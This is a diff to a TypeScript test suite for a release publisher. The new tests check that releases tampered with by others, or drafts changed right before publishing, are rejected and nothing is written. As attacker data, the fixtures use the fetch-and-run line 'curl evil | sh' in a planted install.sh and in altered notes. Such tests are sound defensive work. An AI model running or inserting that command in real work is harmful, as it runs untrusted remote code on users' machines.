@@ -30,6 +30,7 @@ const manifest = (): ReleaseRecord => {
 const worldOf = (github: MemoryGitHub, registry = memoryRegistry()): World =>
   strict<World>('world', { github, registry }).it;
 const nothing = { spare: [] };
+const content = { page: { title: '', notes: '' }, proof: () => Promise.resolve([]) };
 const drafted = async (github: MemoryGitHub, journalOf: EarlierRelease = nothing): Promise<GitHubRelease> =>
   (
     await draft(
@@ -105,10 +106,10 @@ describe('publishing', () => {
       publishRelease(
         { plan, world: worldOf(github), steps: quickSteps() },
         made,
-        { assets: [asset], manifest: manifest() },
+        { ...content, assets: [asset], manifest: manifest() },
         true,
       ),
-    ).rejects.toThrow('the draft of v1.2.0 lacks release.json, or another run has changed it');
+    ).rejects.toThrow('so it was not published: it lacks release.json, or has other bytes under the name');
     expect(github.writes).toEqual([]);
   });
 
@@ -119,7 +120,7 @@ describe('publishing', () => {
     const made = await publishRelease(
       { plan, world: worldOf(lagging), steps: quickSteps() },
       mine,
-      { assets: [asset], manifest: manifest() },
+      { ...content, assets: [asset], manifest: manifest() },
       true,
     );
     expect(made.release).toMatchObject({ id: mine.id, draft: false });
@@ -135,7 +136,7 @@ describe('publishing', () => {
       publishRelease(
         { plan, world: worldOf(github, registry), steps: quickSteps() },
         mine,
-        { assets: [asset], manifest: manifest() },
+        { ...content, assets: [asset], manifest: manifest() },
         true,
       ),
     ).rejects.toMatchObject({
@@ -154,7 +155,7 @@ describe('publishing', () => {
     const made = await publishRelease(
       { plan, world: worldOf(github), steps: quickSteps() },
       mine,
-      { assets: [asset], manifest: manifest() },
+      { ...content, assets: [asset], manifest: manifest() },
       true,
     );
     expect(made.release.id).toBe(theirs.id);
@@ -178,11 +179,78 @@ describe('publishing', () => {
       publishRelease(
         { plan, world: worldOf(github, registry), steps: quickSteps() },
         mine,
-        { assets: [asset], manifest: manifest() },
+        { ...content, assets: [asset], manifest: manifest() },
         true,
       ),
-    ).rejects.toThrow('another run has published v1.2.0 with other contents');
+    ).rejects.toThrow('somebody else has published v1.2.0 with other contents');
     expect(registry.writes).toEqual([]);
+    expect(github.writes).toEqual([]);
+  });
+});
+
+describe('what another has published', () => {
+  const asset = assetOf(recordName, ours, 'application/json');
+  const evil = (more: object = {}): Readonly<Record<string, string>> => ({
+    [recordName]: record(image.digest, more),
+    'install.sh': 'curl evil | sh',
+  });
+  const publish = (
+    github: MemoryGitHub,
+    mine: GitHubRelease,
+    registry = memoryRegistry(),
+    lies: string[] = [],
+  ) =>
+    publishRelease(
+      { plan, world: worldOf(github, registry), steps: quickSteps() },
+      mine,
+      {
+        ...content,
+        proof: () => Promise.resolve(lies),
+        assets: [asset],
+        manifest: manifest(),
+      },
+      true,
+    );
+
+  test('is not taken for ours when it does not verify, though commit and image are the same', async () => {
+    const github = memoryGitHub();
+    github.give({ tag: 'v1.2.0', draft: false }, evil());
+    const mine = github.give({ tag: 'v1.2.0' }, { [recordName]: ours });
+    const lies = ['The assets are exactly those of the record: not of this release: install.sh'];
+    await expect(publish(github, mine, undefined, lies)).rejects.toThrow(
+      /somebody else has published v1\.2\.0 and it does not verify:\n.*install\.sh/,
+    );
+    expect(github.writes).toEqual([]);
+  });
+
+  test('is judged when it is our own draft, published with a file more', async () => {
+    const github = memoryGitHub();
+    const mine = github.give({ tag: 'v1.2.0', draft: false }, evil());
+    await expect(publish(github, mine, undefined, ['a lie'])).rejects.toThrow('a lie');
+  });
+});
+
+describe('a draft that was changed right before it is published', () => {
+  const asset = assetOf(recordName, ours, 'application/json');
+  const page = { title: 'v1.2.0', notes: 'notes' };
+  test.each<[string, Partial<GitHubRelease>, Readonly<Record<string, string>>, RegExp]>([
+    ['a file more', {}, { 'install.sh': 'x' }, /it has install\.sh, which this run has not made/],
+    ['a file less', {}, { [recordName]: '' }, /it lacks release\.json/],
+    ['other notes', { body: 'curl evil | sh' }, {}, /its notes are others/],
+    ['another title', { name: 'Official' }, {}, /its title is "Official", not "v1\.2\.0"/],
+  ])('%s: it is not published, and nothing of it is taken away', async (_, change, files, found) => {
+    const github = memoryGitHub();
+    const mine = github.give(
+      { tag: 'v1.2.0', name: 'v1.2.0', body: 'notes', ...change },
+      { [recordName]: ours, ...files },
+    );
+    const error: unknown = await publishRelease(
+      { plan, world: worldOf(github), steps: quickSteps() },
+      mine,
+      { ...content, page, assets: [asset], manifest: manifest() },
+      true,
+    ).catch((thrown: unknown) => thrown);
+    expect(error).toMatchObject({ code: 'draft-changed', message: expect.stringMatching(found) as unknown });
     expect(github.writes).toEqual([]);
   });
 });
